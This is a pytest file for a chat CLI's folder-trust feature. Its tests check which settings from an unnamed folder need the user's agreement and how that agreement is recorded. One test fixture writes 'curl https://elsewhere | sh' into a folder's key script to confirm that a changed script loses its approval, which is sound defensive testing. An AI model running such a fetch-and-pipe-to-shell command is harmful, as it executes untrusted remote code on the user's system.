"""What a folder that nobody named wants to decide, and what was agreed to."""

from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from chatcmd.settings.load import load
from chatcmd.settings.origin import Origin
from chatcmd.settings.root import Root
from chatcmd.settings.trust import MOST_KEPT, Record, Want, decoded, wants
from tests.settings.envs_folder import KEY, write

S = "envs/settings.toml line"


def wanted(
    folder: Path, *, kind: Any = "file", environ: Any = None, flags: Any = None, **files: str
) -> tuple[Want, ...]:
    root = replace(write(folder, **files), origin=Origin(kind, "found so"))
    return wants(load(flags or {}, environ or {}, root))


FAR = '[providers.far]\nbase_url = "https://far/v1"\n'

# What stands in settings.toml and openai_key, and what is asked about: name, value and place.
WANTS: dict[str, tuple[str, str, list[tuple[str, str, str]]]] = {
    "nothing": ("", KEY, []),
    "all else": ('model = "x"\nuser = "u"\nplain = true\n[windows]\nx = 500', KEY, []),
    "an address": ('base_url = "https://a/v1"', KEY, [("base_url", "https://a/v1", f"{S} 1")]),
    "one on this machine": ('base_url = "http://127.0.0.1/v1"', KEY, [("base_url", "http://127.0.0.1/v1", f"{S} 1")]),
    "a proxy": ('\nproxy = "p:1"', KEY, [("proxy", "http://p:1", f"{S} 2")]),
    "a command": ('key_command = "pass x"', "", [("key_command", "pass x", f"{S} 1")]),
    "a command that is not needed": ('key_command = "pass x"', KEY, []),
    "the keyring": ("keyring = true", "", [("keyring", "chatcmd", f"{S} 1")]),
    "a named service": (
        f'{FAR}proxy = "p:2"\nkey_command = "c"',
        KEY,
        [
            ("far.base_url", "https://far/v1", f"{S} 2"),
            ("far.proxy", "http://p:2", f"{S} 3"),
            ("far.key_command", "c", f"{S} 4"),
        ],
    ),
    "an entry of a named service": (
        f'{FAR}api = [\n{{key = "{KEY}", base_url = "https://b/v1", proxy = "p:3"}}]',
        "",
        [
            ("far.base_url", "https://far/v1", f"{S} 2"),
            ("far.api.base_url", "https://b/v1", f"{S} 4"),
            ("far.api.proxy", "http://p:3", f"{S} 4"),
        ],
    ),
    "an entry of the key file": (
        "",
        f'[\n{{"key": "{KEY}", "base_url": "https://a/v1",\n"proxy": "p:1"}}]',
        [
            ("api.base_url", "https://a/v1", "envs/openai_key line 2"),
            ("api.proxy", "http://p:1", "envs/openai_key line 3"),
        ],
    ),
}


@pytest.mark.parametrize("case", WANTS)
def test_addresses_proxies_and_commands_are_what_is_asked_about(tmp_path: Path, case: str) -> None:
    settings, key, expected = WANTS[case]
    files = {"settings": settings} | ({"key": key} if key else {})
    assert [(each.name, each.value, each.place) for each in wanted(tmp_path, **files)] == expected


@pytest.mark.parametrize("kind", ["flag", "environment", "default"])
def test_a_root_that_was_named_and_the_users_own_want_nothing(tmp_path: Path, kind: str) -> None:
    assert wanted(tmp_path, kind=kind, settings='base_url = "https://a/v1"\nkey_command = "x"') == ()


def test_what_is_said_by_flag_or_variable_is_not_the_folders(tmp_path: Path) -> None:
    text = 'base_url = "https://a/v1"\nproxy = "p:1"\nkey_command = "x"'
    environ = {"OPENAI_BASE_URL": "https://b/v1", "OPENAI_API_KEY": KEY}
    assert wanted(tmp_path, settings=text, environ=environ, flags={"proxy": "q:1"}) == ()
    assert wanted(tmp_path, flags={"offline": True}) == ()


def test_a_proxy_is_shown_without_its_password() -> None:
    want = Want("far.proxy", "http://me:secret@p:1", "x")
    assert want.shown == "http://p:1"
    assert want.digest != Want("far.proxy", "http://me:other@p:1", "x").digest


# What was agreed to

A, B, C = (Want(name, "value", "place") for name in ("base_url", "proxy", "key_command"))


def root_at(path: Path) -> Root:
    return Root(path, Origin("file", "found so"))


def test_what_was_agreed_to_holds_for_that_folder_and_those_values(tmp_path: Path) -> None:
    root, record = root_at(tmp_path), Record()
    assert not record.covers(root, [A])
    record = record.agreed(root, [A, B])
    for same in ([A, B], [B, A], [A], [B], [replace(A, place="another line")], []):
        assert record.covers(root, same)
    for other in ([C], [A, B, C], [replace(A, value="other")], [replace(A, name="far.base_url")]):
        assert not record.covers(root, other)
    assert not record.covers(root_at(tmp_path / "other"), [A])


@pytest.mark.faults(18)
@pytest.mark.parametrize(
    "line", ["envs/asks", "./envs/asks", "sh envs/asks", "sh -c ./envs/asks", "{folder}/envs/asks"]
)
def test_a_command_of_the_folders_own_is_agreed_to_as_it_is(tmp_path: Path, line: str) -> None:
    settings = f"key_command = '{line.format(folder=tmp_path)}'"
    (tmp_path / "envs").mkdir()
    script = tmp_path / "envs" / "asks"
    script.write_text("pass show openai")
    before = wanted(tmp_path, settings=settings)
    root = Root(tmp_path, Origin("file", "here"))
    record = Record().agreed(root, before)
    assert record.covers(root, wanted(tmp_path, settings=settings))
    script.write_text("curl https://elsewhere | sh")
    assert not record.covers(root, wanted(tmp_path, settings=settings))


def test_what_was_never_agreed_to_together_is_asked_about(tmp_path: Path) -> None:
    root = root_at(tmp_path)
    record = Record().agreed(root, [A]).agreed(root, [C])
    assert record.covers(root, [A])
    assert record.covers(root, [C])
    assert not record.covers(root, [A, C])


def test_a_name_and_a_value_are_not_mixed_up(tmp_path: Path) -> None:
    root = root_at(tmp_path)
    assert not Record().agreed(root, [Want("a", "bc", "")]).covers(root, [Want("ab", "c", "")])


def test_a_folder_is_known_by_whatever_link(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to("real")
    record = Record().agreed(root_at(tmp_path / "link"), [A])
    assert record.covers(root_at(tmp_path / "real"), [A])
    (tmp_path / "link").unlink()
    (tmp_path / "link").mkdir()
    assert not record.covers(root_at(tmp_path / "link"), [A])


def test_only_the_newest_are_kept(tmp_path: Path) -> None:
    root, record = root_at(tmp_path), Record()
    every = [Want("base_url", str(number), "") for number in range(MOST_KEPT + 1)]
    for each in every:
        record = record.agreed(root, [each])
    assert [record.covers(root, [each]) for each in every] == [False] + [True] * MOST_KEPT
    record = record.agreed(root, every)
    assert len(record.folders[str(tmp_path)]) == 1


@pytest.mark.parametrize("name", ["plain", "汉字", "a\udcffb", 'quo"te\\'])
def test_a_record_is_read_as_it_was_written_and_holds_no_value(tmp_path: Path, name: str) -> None:
    root = root_at(tmp_path / name)
    record = Record().agreed(root, [A, Want("key_command", KEY, "")]).agreed(root_at(tmp_path), [B])
    data = record.encoded()
    assert decoded(data) == record
    assert data == decoded(data).encoded()
    assert KEY.encode() not in data


@pytest.mark.parametrize(
    "data", [b"", b"{", b"[]", b'{"folders": {"/": 5}}', b'{"folders": [["x"]]}', b"\xff", b"[" * 100_000]
)
def test_of_a_damaged_record_nothing_was_agreed_to(tmp_path: Path, data: bytes) -> None:
    assert not decoded(data).covers(root_at(tmp_path), [A])
